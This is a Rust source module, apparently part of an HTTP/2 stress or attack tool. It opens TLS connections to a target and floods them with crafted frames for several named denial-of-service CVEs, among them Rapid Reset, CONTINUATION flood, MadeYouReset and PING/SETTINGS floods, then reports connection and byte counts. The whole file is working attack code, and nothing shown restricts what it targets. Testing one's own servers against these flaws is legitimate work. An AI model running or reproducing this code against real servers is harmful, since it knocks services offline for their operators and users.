//! One attacker, as fast as he can.

use std::io::{self, Read, Write};
use std::time::{Duration, Instant};

use clap::ValueEnum;
use serde_json::json;

use crate::Error;
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, HEADERS, PING, POST, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame, head, hello,
};
use crate::tls::{Stream, Target};

/// Frames that are written at once.
const BATCH: u32 = 50;

/// How long it waits for a server that takes and says nothing.
const PAUSE: Duration = Duration::from_micros(200);

#[derive(Debug, Clone, Copy, ValueEnum)]
pub(crate) enum Kind {
    /// CVE-2023-44487.
    RapidReset,
    /// CVE-2024-27316 and others.
    Continuation,
    /// CVE-2019-9518.
    EmptyData,
    /// CVE-2025-8671.
    MadeYouReset,
    /// CVE-2019-9512.
    Ping,
    /// CVE-2019-9515.
    Settings,
    /// Window updates of a byte.
    WindowUpdate,
    /// New connections and their handshakes only: what every attacker can do who is thrown out.
    Connect,
}

/// What came of it.
#[derive(Default)]
struct Tally {
    connections: u64,
    failed_connections: u64,
    bytes: u64,
}

pub(crate) fn run(target: &Target, kind: Kind, time: Duration) -> Result<(), Error> {
    let (end, mut tally) = (Instant::now() + time, Tally::default());
    while Instant::now() < end {
        match target.connect() {
            Ok(stream) => {
                tally.connections += 1;
                // However it ends, the next one comes.
                let _ended = attack(stream, kind, end, &mut tally.bytes);
            }
            Err(_) => tally.failed_connections += 1,
        }
    }
    let Tally { connections, failed_connections, bytes } = tally;
    let report =
        json!({ "connections": connections, "failed-connections": failed_connections, "bytes": bytes });
    println!("{report}");
    Ok(())
}

/// Writes until the server closes or the time is over, and reads what it answers, so that it can go on answering.
fn attack(mut stream: Stream, kind: Kind, end: Instant, bytes: &mut u64) -> io::Result<()> {
    if let Kind::Connect = kind {
        return Ok(());
    }
    stream.sock.set_nonblocking(true)?;
    stream.conn.writer().write_all(&hello())?;
    let (mut batch, mut sink) = (0, vec![0; 16 * 1024]);
    while Instant::now() < end {
        if !stream.conn.wants_write() {
            let frames = frames(kind, batch);
            stream.conn.writer().write_all(&frames)?;
            *bytes += frames.len() as u64;
            batch += 1;
        }
        let wrote = would_block(stream.conn.write_tls(&mut stream.sock))?;
        let read = would_block(stream.conn.read_tls(&mut stream.sock))?;
        if read == Some(0) {
            return Ok(());
        }
        stream.conn.process_new_packets().map_err(io::Error::other)?;
        while matches!(stream.conn.reader().read(&mut sink), Ok(1..)) {}
        if wrote.is_none() && read.is_none() {
            std::thread::sleep(PAUSE);
        }
    }
    Ok(())
}

/// `None` if there is nothing to do now.
fn would_block(result: io::Result<usize>) -> io::Result<Option<usize>> {
    match result {
        Ok(count) => Ok(Some(count)),
        Err(error) if error.kind() == io::ErrorKind::WouldBlock => Ok(None),
        Err(error) => Err(error),
    }
}

fn frames(kind: Kind, batch: u32) -> Vec<u8> {
    let mut out = Vec::new();
    for number in batch * BATCH..(batch + 1) * BATCH {
        let stream = 2 * number + 1;
        match kind {
            Kind::RapidReset => {
                frame(&mut out, HEADERS, END_STREAM | END_HEADERS, stream, &head(GET));
                frame(&mut out, RST_STREAM, 0, stream, &[0, 0, 0, 8]);
            }
            Kind::MadeYouReset => {
                frame(&mut out, HEADERS, END_STREAM | END_HEADERS, stream, &head(GET));
                frame(&mut out, WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes());
            }
            Kind::Continuation if number == 0 => frame(&mut out, HEADERS, END_STREAM, 1, &head(GET)),
            Kind::Continuation => {
                let field = [&[0, 1, b'a', 0x7f, 0xe9, 0x06], &[b'x'; 1000][..]].concat();
                frame(&mut out, CONTINUATION, 0, 1, &field);
            }
            Kind::EmptyData if number == 0 => frame(&mut out, HEADERS, END_HEADERS, 1, &head(POST)),
            Kind::EmptyData => frame(&mut out, DATA, 0, 1, &[]),
            Kind::Ping => frame(&mut out, PING, 0, 0, &u64::from(number).to_be_bytes()),
            Kind::Settings => {
                let setting = [&[0, 4], &(number & 0xffff).to_be_bytes()[..]].concat();
                frame(&mut out, SETTINGS, 0, 0, &setting);
            }
            Kind::WindowUpdate => frame(&mut out, WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
            Kind::Connect => {}
        }
    }
    out
}
